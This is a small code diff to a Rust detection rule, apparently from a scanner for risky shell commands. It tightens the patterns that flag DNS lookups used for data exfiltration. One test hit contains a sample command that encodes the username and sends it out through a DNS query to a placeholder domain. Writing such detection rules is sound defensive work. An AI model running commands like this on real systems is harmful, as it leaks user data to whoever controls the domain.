@@ -12,7 +12,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Looking up a name is hardly ever forbidden, and whoever owns the rest of the name reads the first part.",
     fix: "remove the command",
     places: ANYWHERE,
-    anchors: &["dig ", "nslookup ", "host $", "host \"$", "ping -"],
+    anchors: &["\\bdig ", "\\bnslookup ", "\\bhost $", "\\bhost \"$", "\\bping -"],
     check: Check::Unit(hits),
     hits: &[
         text("`dig $(whoami | base64).x.a.b`"),
